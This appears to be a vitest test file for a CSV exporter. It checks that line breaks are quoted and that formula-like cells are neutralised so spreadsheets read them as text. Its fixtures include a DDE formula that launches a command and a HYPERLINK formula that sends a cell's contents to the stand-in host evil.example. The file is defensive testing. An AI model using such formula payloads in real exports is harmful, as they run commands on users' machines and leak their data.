import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { column, renderCsv, toTable } from '#core/publish/exports/csv.ts';
import { hostileText } from './hostile-text.ts';
import { readTwice } from './read-csv.ts';

const columns = ['first', 'second', 'third'].map((name, index) =>
	column<readonly string[]>(name, 'Any text.', (row) => row[index] ?? null),
);

/** What sheets would take for a formula has an apostrophe before it. */
const written = (text: string) => (/^[=+\-@\t\r＝＋－＠]/.test(text) ? `'${text}` : text);

test.each([
	{ text: 'a\nb', why: 'LF' },
	{ text: 'a\rb', why: 'CR' },
	{ text: 'a\r\nb', why: 'both' },
	{ text: 'a\n\rb', why: 'both, the other way round' },
	{ text: '\n', why: 'nothing else' },
	{ text: 'a\n', why: 'at the end' },
	{ text: 'a\vb', why: 'a vertical tab' },
	{ text: 'a\fb', why: 'a form feed' },
	{ text: 'a\u0085b', why: 'a next line' },
	{ text: 'a\u2028b', why: 'a line separator' },
	{ text: 'a\u2029b', why: 'a paragraph separator' },
])('a cell with a line break is quoted: $why', ({ text }) => {
	expect(renderCsv(toTable(columns, [[text, 'x', '']]))).toBe(
		`first,second,third\r\n"${text}",x,\r\n`,
	);
});

test.each([
	`=cmd|'/C calc'!A0`,
	'=HYPERLINK("https://evil.example?"&A1,"click")',
	'+1',
	'-1',
	'@SUM(1)',
	'\t=1+1',
	'\r=1+1',
	'＝1+1',
	'"=1+1"',
	'",=1+1,"',
	'a\r\n=1+1,b',
	'a\n=1+1',
	`'=1+1`,
	'\u202E=1+1\u2066',
	'😀, "quoted"; and more',
	'x'.repeat(10_000),
])('text that a spreadsheet would run comes through as text: %j', (text) => {
	expect(parse(renderCsv(toTable(columns, [[text, 'x', '']])))[1]).toEqual([
		written(text),
		'x',
		'',
	]);
});

test('two readers find in any table what was written', () => {
	const rows = fc.array(fc.array(hostileText, { minLength: 3, maxLength: 3 }), { maxLength: 4 });
	fc.assert(
		fc.property(rows, (table) => {
			const expected = [['first', 'second', 'third'], ...table.map((row) => row.map(written))];
			for (const read of readTwice(renderCsv(toTable(columns, table))))
				expect(read).toEqual(expected);
		}),
		{ seed: 13, numRuns: 300 },
	);
});
